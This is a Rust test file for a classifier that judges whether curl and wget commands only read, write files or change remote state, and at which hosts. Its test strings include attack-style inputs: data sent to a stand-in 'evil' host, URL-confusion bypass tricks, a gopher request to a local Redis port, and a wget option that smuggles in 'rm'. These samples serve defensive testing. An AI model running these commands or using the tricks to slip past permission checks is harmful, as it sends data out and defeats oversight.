//! How `curl` and `wget` are judged.

use super::super::testing::{check, check_unknown};
use super::*;

#[test]
fn curl_that_only_asks() {
    for line in [
        "curl https://web01/x",
        "curl -sSfL -H 'A: b' -u u:p https://web01/x",
        "curl -I web01",
        "curl -XGET -d '{}' http://web01:9200/_search",
        "curl -G -d a=b http://web01",
        "curl -so /dev/null -w '%{http_code}' http://web01",
        "curl -o - http://web01",
        "curl -k --max-time 5 --resolve a:443:1.2.3.4 https://a/",
        "curl https://web01/… -s",
        "curl --version",
        "curl -X HEAD http://web01",
    ] {
        check(curl, &[(line, "reads")]);
    }
}

#[test]
fn curl_that_writes_or_sends() {
    check(
        curl,
        &[
            ("curl -o /etc/x http://web01", "writes /etc/x"),
            ("curl -sLO http://web01/x", "writes ."),
            ("curl -OJ --output-dir /srv http://web01/x", "writes /srv"),
            ("curl -D /etc/x -c y http://web01", "writes /etc/x; writes y"),
            ("curl --trace /etc/x http://web01", "writes /etc/x"),
            ("curl -w '%output{/etc/x}a' http://web01", "writes …"),
            ("curl -XPOST http://u:p@web01:80/x?y", "unknown at web01"),
            ("curl -X DELETE http://[fe80::1]:80/", "unknown at fe80::1"),
            ("curl -d x http://web01 https://web02", "unknown at web01,web02"),
            ("curl --json '{}' localhost:8080/x", "changes"),
            ("curl -F a=@b http://127.0.0.1/ http://web01/", "changes; unknown at web01"),
            ("curl -T x sftp://web01/x", "unknown at web01"),
            ("curl -Q 'DELE x' ftp://web01/", "unknown at web01"),
            ("curl -d x http://web…/", "unknown at ?"),
            (r"curl -d x 'http://web01\@evil/'", "unknown at ?"),
            ("curl -d x http:/web01/x", "unknown at ?"),
            ("curl -d x http:///web01/x", "unknown at ?"),
            ("curl -d x http://web01@evil/", "unknown at evil"),
            ("curl -d x http://evil/@web01", "unknown at evil"),
            ("curl -d x http://evil?@web01", "unknown at evil"),
            ("curl -d x http://evil#@web01", "unknown at evil"),
            ("curl -d x http://localhost.evil/", "unknown at localhost.evil"),
            ("curl -d x http://localhost./", "changes"),
            ("curl -d x http://[::1]:80/", "changes"),
            ("curl -d x http://[::ffff:127.0.0.1]/", "changes"),
            ("curl -d x http://127.1/", "changes"),
            ("curl -d x http://0.0.0.0/", "changes"),
            ("curl -d x http://0x7f000001/", "unknown at ?"),
            ("curl -d x http://2130706433/", "unknown at ?"),
            ("curl -d x http://127.0.0.1.evil.com/", "unknown at 127.0.0.1.evil.com"),
            ("curl -d x http://web0[1-2]/", "unknown at web01,web02"),
            ("curl -d x http://web01/[1-9]", "unknown at web01"),
            ("curl -T x file:///etc/y", "writes /etc/y"),
            ("curl -T x file://host/etc/y", "writes …"),
            ("curl -d x file:///etc/y http://web01", "writes /etc/y; unknown at web01"),
            ("curl -H @f http://web01", "unknown at web01"),
            ("curl --url @list -d x", "unknown at ?"),
            ("curl -H 'X-HTTP-Method: PUT' http://web01", "unknown at web01"),
            ("curl -o x --output-dir /srv http://web01", "writes x; writes /srv"),
            ("curl -d x --abstract-unix-socket y http://x/", "changes"),
            ("curl -x http://proxy:3128 -d x http://web01", "unknown at web01"),
            ("curl -K - http://a <<< url = \"http://web01/\"", "reads"),
            ("curl -K - <<< data = x", "reads"),
            ("curl -K - http://web01 <<< data = x", "unknown at web01"),
            ("curl -K- http://web01 <<< -X DELETE", "unknown at web01"),
            ("curl -L --post301 -d x http://web01", "unknown at web01"),
            ("curl -d x http://web01/…", "unknown at web01"),
            ("curl -X … http://web01/", "unknown at web01"),
            ("curl -d x --connect-to ::web02: http://web01", "unknown at ?"),
            ("curl -d x --unix-socket /run/x http://x/", "changes"),
            ("curl http://a -X GET --next -d x http://web01", "unknown at a,web01"),
            ("curl -d x 'http://{a,b}/'", "unknown at ?"),
            ("curl -H 'X-HTTP-Method-Override: DELETE' http://web01", "unknown at web01"),
            ("curl --data-b x http://web01", "unknown at web01"),
            ("curl --ftp-create-dirs ftp://web01/a/b", "unknown at web01"),
        ],
    );
    check_unknown(
        curl,
        &[
            "curl -K x",
            "curl -sK x http://web01",
            "curl --config=x http://web01",
            "curl --conf x http://web01",
            "curl -K - http://web01 <<< config = y",
            "curl -K - http://web01 <<< -sK y",
            "curl --proto-default smtp web01",
            "curl mqtt://web01/x -d y",
            "curl smb://web01/x",
            "curl gopher://127.0.0.1:6379/_x",
            "curl telnet://web01",
            "curl …",
            "curl $*",
            "curl --engine x http://a",
            "curl dict.web01",
        ],
    );
}

#[test]
fn wget_writes_unless_told_otherwise() {
    check(
        wget,
        &[
            ("wget http://web01/x", "writes ."),
            ("wget -qO- http://web01/x", "reads"),
            ("wget -nv -O /etc/x http://web01", "writes /etc/x"),
            ("wget -q --spider http://web01", "reads"),
            ("wget -q --spider -r http://web01", "writes ."),
            ("wget -P /srv -nc http://web01/x", "writes /srv"),
            ("wget -O - -o /etc/x http://web01/x", "writes /etc/x"),
            ("wget -qO- --post-data=x http://web01", "unknown at web01"),
            ("wget -qO- --method=DELETE http://localhost", "changes"),
            ("wget -qO- --method=HEAD http://web01", "reads"),
            ("wget -bO- http://web01", "writes wget-log"),
        ],
    );
    check_unknown(
        wget,
        &["wget -e use_askpass=rm http://a", "wget --use-askpass=rm http://a", "wget --config=x http://a"],
    );
}
